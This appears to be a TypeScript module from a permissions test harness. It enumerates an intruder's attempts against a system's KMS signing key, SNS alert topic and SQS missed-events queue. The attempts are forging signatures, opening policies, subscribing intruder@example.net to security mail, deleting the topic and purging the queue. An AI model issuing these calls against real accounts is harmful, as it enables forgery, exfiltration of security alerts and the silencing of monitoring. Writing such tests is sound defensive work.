// What the intruder tries with what speaks for Cordon: the key that signs, the topic that mails, the
// queue of missed events. No judgement here.
import { DisableKeyCommand, PutKeyPolicyCommand, SignCommand } from '@aws-sdk/client-kms';
import {
  DeleteTopicCommand,
  PublishCommand,
  SetTopicAttributesCommand,
  SubscribeCommand,
} from '@aws-sdk/client-sns';
import { PurgeQueueCommand, SendMessageCommand } from '@aws-sdk/client-sqs';
import type { Attempt } from './intruder.ts';
import { open } from './records.ts';

export const withSigningKey = (KeyId: string): readonly Attempt[] => [
  {
    words: 'sign a manifest',
    action: 'kms:Sign',
    resource: KeyId,
    send: ({ kms }) =>
      kms.send(
        new SignCommand({
          KeyId,
          Message: Buffer.from('forged'),
          SigningAlgorithm: 'ECDSA_SHA_256',
        }),
      ),
  },
  {
    words: 'replace the policy of the key',
    action: 'kms:PutKeyPolicy',
    resource: KeyId,
    send: ({ kms }) => kms.send(new PutKeyPolicyCommand({ KeyId, Policy: open })),
  },
  {
    words: 'disable the key',
    action: 'kms:DisableKey',
    resource: KeyId,
    send: ({ kms }) => kms.send(new DisableKeyCommand({ KeyId })),
  },
];

export const withTopic = (TopicArn: string): readonly Attempt[] => [
  {
    words: 'send a mail in the name of Cordon',
    action: 'sns:Publish',
    resource: TopicArn,
    send: ({ sns }) => sns.send(new PublishCommand({ TopicArn, Message: 'all is well' })),
  },
  {
    words: 'read the mails of the security team',
    action: 'sns:Subscribe',
    resource: TopicArn,
    send: ({ sns }) =>
      sns.send(
        new SubscribeCommand({ TopicArn, Protocol: 'email', Endpoint: 'intruder@example.net' }),
      ),
  },
  {
    words: 'replace the policy of the topic',
    action: 'sns:SetTopicAttributes',
    resource: TopicArn,
    send: ({ sns }) =>
      sns.send(
        new SetTopicAttributesCommand({
          TopicArn,
          AttributeName: 'Policy',
          AttributeValue: open,
        }),
      ),
  },
  {
    words: 'delete the topic',
    action: 'sns:DeleteTopic',
    resource: TopicArn,
    send: ({ sns }) => sns.send(new DeleteTopicCommand({ TopicArn })),
  },
];

export const withQueue = (QueueUrl: string, queueArn: string): readonly Attempt[] => [
  {
    words: 'put an event among the missed ones',
    action: 'sqs:SendMessage',
    resource: queueArn,
    send: ({ sqs }) => sqs.send(new SendMessageCommand({ QueueUrl, MessageBody: '{}' })),
  },
  {
    words: 'drop all missed events',
    action: 'sqs:PurgeQueue',
    resource: queueArn,
    send: ({ sqs }) => sqs.send(new PurgeQueueCommand({ QueueUrl })),
  },
];
